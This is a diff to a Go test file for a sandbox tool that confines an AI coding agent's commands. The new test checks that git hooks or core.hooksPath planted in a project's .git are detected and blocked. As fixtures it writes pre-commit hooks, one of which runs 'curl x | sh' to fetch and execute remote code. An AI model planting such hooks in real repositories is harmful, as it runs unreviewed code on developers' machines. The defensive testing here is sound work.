@@ -3,6 +3,7 @@ package main
 import (
 	"bytes"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -119,8 +120,8 @@ func runCmd(sys *pipeline.System, args ...string) runResult {
 }
 
 // TestConfineWatchesMissing: confining a command records the read-only
-// paths that do not exist, creates .claude and ~/.cache, and leaves the
-// .git paths of a project that is no repository alone.
+// paths that do not exist, and the .git of a project that is no
+// repository (not the paths inside it), and creates .claude and ~/.cache.
 func TestConfineWatchesMissing(t *testing.T) {
 	sys, dir := testSystem(t)
 	if !sys.ConfineStatus().Confine() {
@@ -152,7 +153,7 @@ func TestConfineWatchesMissing(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, want := range []string{".safezone.yaml", ".safezone.local.yaml", ".mcp.json", "hooks/hooks.json"} {
+	for _, want := range []string{".safezone.yaml", ".safezone.local.yaml", ".mcp.json", "hooks/hooks.json", ".git"} {
 		if _, ok := w.Paths[filepath.Join(proj, want)]; !ok {
 			t.Errorf("%s is not watched: %v", want, w.Paths)
 		}
@@ -268,4 +269,91 @@ func TestCodeCachesOverlaid(t *testing.T) {
 	if sys.ConfineStatus().ReadOnly == nil && (!strings.Contains(r.stdout, "are its own (gone when it ends)") || !strings.Contains(r.stdout, `home/.npm/_npx\"`) || !strings.Contains(r.stdout, `\"overlay\":[`)) {
 		t.Fatalf("~/.npm/_npx is not overlaid: %s", r.stdout)
 	}
+}
+
+// TestWatchRepo: the .git of a project that was no repository when a
+// command ran confined counts by what git would run from it: a repository
+// as git init makes it, with user.email set and a commit, is ordinary
+// work; a hook, core.hooksPath or a changed hook after trust denies every
+// call, naming what to look at.
+func TestWatchRepo(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("no git")
+	}
+	sys, dir := testSystem(t)
+	proj := dir + "/proj"
+	g := proj + "/.git"
+	if err := sys.RecordWatch(proj, []string{g}); err != nil {
+		t.Fatal(err)
+	}
+	git := func(args ...string) {
+		t.Helper()
+		cmd := exec.Command("git", args...)
+		cmd.Dir = proj
+		cmd.Env = append(os.Environ(), "HOME="+dir+"/home", "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	ok := func(what string) {
+		t.Helper()
+		if err := sys.CheckWatch(proj); err != nil {
+			t.Fatalf("%s: %v", what, err)
+		}
+	}
+	denied := func(what string, want ...string) {
+		t.Helper()
+		err := sys.CheckWatch(proj)
+		if err == nil {
+			t.Fatalf("%s: not reported", what)
+		}
+		for _, w := range append(want, "the git repository "+g, "safezone trust "+g) {
+			if !strings.Contains(err.Error(), w) {
+				t.Fatalf("%s: %v\nwant %q in it", what, err, w)
+			}
+		}
+	}
+	ok("no repository")
+	git("init", "-q")
+	git("config", "user.email", "agent@example.com")
+	git("commit", "-q", "--allow-empty", "-m", "x")
+	ok("git init, user.email, a commit")
+	if r := runCmd(sys, "trust"); !strings.Contains(r.stdout, g+"  present: a git repository holding nothing git would run") {
+		t.Fatalf("trust list: %+v", r)
+	}
+
+	hook := g + "/hooks/pre-commit"
+	if err := os.WriteFile(hook, []byte("#!/bin/sh\ntouch ../pwned\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	denied("a pre-commit hook", "hooks/pre-commit")
+	r := runHook(t, sys, strings.NewReader(pipelinetest.Input("Bash", proj, map[string]any{"command": "git commit --allow-empty -m y"})))
+	if r.decision != "deny" || !strings.Contains(r.stdout, "hooks/pre-commit") {
+		t.Fatalf("hook: %+v", r)
+	}
+	if r := runCmd(sys, "trust"); !strings.Contains(r.stdout, g+"  APPEARED, a git repository holding what git would run: hooks/pre-commit") {
+		t.Fatalf("trust list: %+v", r)
+	}
+
+	// Trusted as it is: git commands that change .git itself do not
+	// report it again, a rewritten hook or a new key does.
+	sys.Getwd = func() (string, error) { return proj, nil }
+	if r := runCmd(sys, "trust", ".git"); r.code != 0 || !strings.Contains(r.stdout, "trusted "+g) {
+		t.Fatalf("trust: %+v", r)
+	}
+	sys.Now = func() time.Time { return time.Now() }
+	git("config", "user.name", "Agent")
+	git("commit", "-q", "--allow-empty", "--no-verify", "-m", "z")
+	ok("after trust, a commit")
+	time.Sleep(20 * time.Millisecond)
+	if err := os.WriteFile(hook, []byte("#!/bin/sh\ncurl x | sh\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	denied("the trusted hook rewritten", "hooks/pre-commit")
+	if r := runCmd(sys, "trust", ".git"); r.code != 0 {
+		t.Fatalf("trust: %+v", r)
+	}
+	ok("trusted again")
+	git("config", "core.hooksPath", ".husky/_")
+	denied("core.hooksPath set", "config: core.hookspath=")
 }
